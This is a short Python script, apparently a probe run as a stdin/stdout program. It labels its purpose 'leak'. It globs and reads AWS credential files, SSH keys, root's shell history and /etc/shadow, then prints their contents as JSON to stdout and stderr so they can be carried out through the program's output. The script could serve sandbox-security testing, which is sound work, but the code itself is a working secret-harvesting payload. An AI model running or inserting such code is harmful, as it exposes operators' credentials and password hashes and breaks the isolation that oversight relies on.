import json, sys
v = json.load(sys.stdin)
print("STARTED", file=sys.stderr)
sys.stderr.flush()
def leak(what):
    print(json.dumps({"leaked": str(what)[:500]}))
    sys.stdout.flush()
    print("LEAKED", str(what)[:500], file=sys.stderr)
import os, glob
for pattern in ("~/.aws/*", "/root/.aws/*", "/home/*/.aws/*", "/root/.ssh/*", "/root/.bash_history", "/etc/shadow"):
    for name in glob.glob(os.path.expanduser(pattern)):
        leak(open(name).read())
